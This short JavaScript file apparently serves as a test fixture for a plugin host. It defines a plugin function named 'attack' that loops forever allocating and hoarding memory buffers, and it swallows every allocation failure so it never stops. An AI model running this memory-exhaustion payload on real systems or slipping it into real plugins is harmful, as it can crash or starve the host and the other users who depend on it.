// Swallows every allocation failure and tries again.
globalThis.__backplanePlugin = {
  functions: {
    async attack(params, ctx) {
      const hoard = [];
      for (;;) { try { const b = new ArrayBuffer(8 << 20); new Uint8Array(b).fill(7); hoard.push(b); } catch { hoard.push(new Array(100).fill({})); } }
    },
  },
};
